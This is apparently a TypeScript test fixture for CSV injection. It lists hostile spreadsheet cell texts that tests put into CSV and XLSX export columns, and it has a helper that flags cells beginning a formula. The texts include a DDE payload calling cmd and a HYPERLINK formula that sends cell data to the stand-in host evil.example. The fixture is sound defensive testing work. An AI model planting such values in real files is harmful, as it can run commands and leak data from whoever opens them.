/**
 * Texts that spreadsheet programs would run or evaluate if a file wrote them as they are ("CSV
 * injection"), as members might enter them as a file name, a name or a note. Tests of every CSV and
 * XLSX writer put them into each text column.
 */
export const HOSTILE_TEXTS = [
  "=2+5+cmd|' -C calc'!A0.csv",
  '=HYPERLINK("http://evil.example/?"&A1,"klick")',
  '+49 6051 1234',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
] as const

/** True when a cell as written in a file could start a formula (the check every such test applies). */
export function startsFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell)
}
